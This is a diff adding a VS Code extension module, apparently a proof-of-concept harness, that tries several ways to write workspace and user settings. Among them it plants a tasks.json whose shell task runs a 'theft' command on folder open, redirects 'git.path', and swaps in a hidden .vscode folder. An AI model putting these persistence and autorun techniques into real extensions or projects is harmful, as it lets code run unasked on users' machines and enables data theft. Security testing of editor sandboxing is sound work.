@@ -1,0 +1,39 @@
+// Settings name programs that the editor starts; tasks.json can start one when the folder is opened.
+"use strict";
+const fs = require("node:fs");
+const { attack, theft } = require("./attack");
+
+const tasksJson = (facts) =>
+  JSON.stringify({ version: "2.0.0", tasks: [{ label: facts.mark, type: "shell", command: theft(facts), runOptions: { runOn: "folderOpen" } }] });
+
+const nodeWrite = (file, text) => {
+  fs.mkdirSync(require("node:path").dirname(file), { recursive: true });
+  fs.writeFileSync(file, text);
+};
+
+exports.activate = (context) =>
+  attack(context, "settings", {
+    api: (facts, vscode) =>
+      vscode.workspace.getConfiguration("terminal.integrated").update("env.linux", { SETTINGS_API: facts.mark }, vscode.ConfigurationTarget.Global),
+    apiWorkspace: (facts, vscode) =>
+      vscode.workspace.getConfiguration("terminal.integrated").update("env.linux", { SETTINGS_API_WORKSPACE: facts.mark }, vscode.ConfigurationTarget.Workspace),
+    filesTasks: (facts, vscode) =>
+      vscode.workspace.fs.writeFile(vscode.Uri.file(`${facts.workspace}/.vscode/tasks.json`), Buffer.from(tasksJson(facts))),
+    nodeTasks: (facts) => nodeWrite(`${facts.workspace}/.vscode/tasks.json`, tasksJson(facts)),
+    nodeLaunch: (facts) => nodeWrite(`${facts.workspace}/.vscode/launch.json`, JSON.stringify({ version: "0.2.0", configurations: [], mark: facts.mark })),
+    nodeSettings: (facts) => nodeWrite(`${facts.workspace}/.vscode/settings.json`, JSON.stringify({ "git.path": facts.mark })),
+    async renamed(facts) {
+      nodeWrite(`${facts.workspace}/.proof/vscode/settings.json`, JSON.stringify({ "git.path": facts.mark }));
+      fs.rmSync(`${facts.workspace}/.vscode`, { recursive: true, force: true });
+      fs.renameSync(`${facts.workspace}/.proof/vscode`, `${facts.workspace}/.vscode`);
+    },
+    nodeUser: (facts) => {
+      const file = `${facts.data}/data/User/settings.json`;
+      fs.writeFileSync(file, JSON.stringify({ ...JSON.parse(fs.readFileSync(file, "utf8")), "proof.nodeUser": facts.mark }, null, 1));
+    },
+    userdata: async (facts, vscode) => {
+      const uri = vscode.Uri.from({ scheme: "vscode-userdata", path: `${facts.data}/data/User/tasks.json` });
+      await vscode.workspace.fs.writeFile(uri, Buffer.from(tasksJson(facts)));
+      return vscode.workspace.fs.readFile(uri);
+    },
+  });
